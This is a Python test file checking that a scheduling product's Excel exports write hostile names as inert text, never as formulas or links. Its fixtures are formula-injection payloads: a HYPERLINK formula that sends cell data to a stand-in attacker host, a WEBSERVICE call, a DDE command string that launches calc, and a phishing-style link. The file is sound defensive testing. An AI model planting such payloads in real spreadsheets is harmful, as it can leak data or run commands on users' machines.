"""Formula injection: names and text from the data never become live formulas in a workbook.

Every workbook the product writes for spreadsheets is read back cell by cell with openpyxl (an
independent reader): no cell is a formula or a hyperlink, each hostile name is there exactly as
typed, and those that begin like a formula carry Excel's quote prefix (they stay text when
edited). The dashboard offers no CSV export for spreadsheets (``client.disableDataExport``).
"""

from __future__ import annotations

import io
import tomllib
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from builders import (
    appointment_for,
    links_for,
    make_authority,
    make_child,
    make_key_person,
    make_plan,
    make_practitioner,
    make_setting,
    make_unscheduled,
)

from scheduler.domain import Authority
from scheduler.export.workbook import rota_workbook
from scheduler.io.cells import formula_like
from scheduler.io.load import load_authority
from scheduler.io.write_data import write_workbook

ROOT = Path(__file__).resolve().parent.parent

CHILD = '=HYPERLINK("https://evil.example/?d="&A1,"Open me")'
OTHER_CHILD = "@SUM(1+1)*cmd|' /C calc'!A0"
SETTING = "+Acorn Nursery"
PRACTITIONER = "-2+3 Ann Lee"
KEY_PERSON = "\tKim Alpha"
ADDRESS = "=1+1 High Street"
REASON = '=WEBSERVICE("https://evil.example")'
LINK = "https://evil.example/login"
HOSTILE = (CHILD, OTHER_CHILD, SETTING, PRACTITIONER, KEY_PERSON, ADDRESS, REASON, LINK)


def hostile_authority() -> Authority:
    return make_authority(
        practitioners=[make_practitioner(name=PRACTITIONER)],
        settings=[make_setting(name=SETTING, address=ADDRESS)],
        key_persons=[make_key_person(name=KEY_PERSON)],
        children=[make_child("C001", name=CHILD), make_child("C002", name=OTHER_CHILD)],
    )


def cells_of(book: openpyxl.Workbook) -> list[openpyxl.cell.cell.Cell]:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert(
    book: openpyxl.Workbook, *, quote_prefixed: bool = True
) -> dict[str, openpyxl.cell.cell.Cell]:
    """No formula, no hyperlink anywhere (and, for our own rota, a quote prefix on text that
    begins like a formula); returns the text cells by value."""
    by_value = {}
    for cell in cells_of(book):
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        assert cell.hyperlink is None, f"{cell.coordinate} is a link: {cell.value!r}"
        if isinstance(cell.value, str):
            by_value[cell.value] = cell
            if quote_prefixed and formula_like(cell.value):
                assert cell.quotePrefix, f"{cell.coordinate} {cell.value!r} has no quote prefix"
    return by_value


def test_the_rota_workbook_writes_hostile_names_as_text() -> None:
    """rota.xlsx: every sheet, every cell; each hostile text is there verbatim, as text."""
    data = hostile_authority()
    plan = make_plan(
        data,
        [appointment_for(data, "C001")],
        [make_unscheduled("C002", reason=REASON)],
        links=[replace(link, explanation=LINK) for link in links_for(data)],
    )
    book = openpyxl.load_workbook(io.BytesIO(rota_workbook(data, plan)))
    found = assert_inert(book)
    for text in HOSTILE:
        assert text in found, text
    assert CHILD in found and OTHER_CHILD in found and REASON in found and LINK in found
    assert found[CHILD].quotePrefix and found[REASON].quotePrefix
    assert not found[LINK].quotePrefix  # only what begins like a formula is marked


def test_the_data_workbook_round_trips_hostile_names(tmp_path: Path) -> None:
    """``generate --xlsx`` / write_workbook: no formulas, and loading it gives the names back."""
    data = hostile_authority()
    path = tmp_path / "authority.xlsx"
    write_workbook(data, path)
    assert_inert(openpyxl.load_workbook(path), quote_prefixed=False)
    loaded = load_authority(path).authority
    assert loaded.children["C001"].name == CHILD
    assert loaded.children["C002"].name == OTHER_CHILD
    assert loaded.settings["S001"].name == SETTING
    assert loaded.settings["S001"].address == ADDRESS
    assert loaded.practitioners["P001"].name == PRACTITIONER


def test_the_dashboard_offers_no_csv_export_of_its_tables() -> None:
    """st.dataframe's own "Download as CSV" (and copy) would hand names to a spreadsheet
    unescaped and unaudited: the shipped config turns it off."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


@pytest.mark.parametrize(
    ("text", "like"),
    [("=1", True), ("+1", True), ("-1", True), ("@a", True), ("\tx", True), ("\rx", True),
     ("\uff1dSUM(1)", True), ("Ann", False), ("", False), (" =1", False), ("a=1", False)],
)  # fmt: skip
def test_what_counts_as_formula_like(text: str, like: bool) -> None:
    """The prefixes OWASP lists (and their full-width forms); anything else is left alone."""
    assert formula_like(text) is like
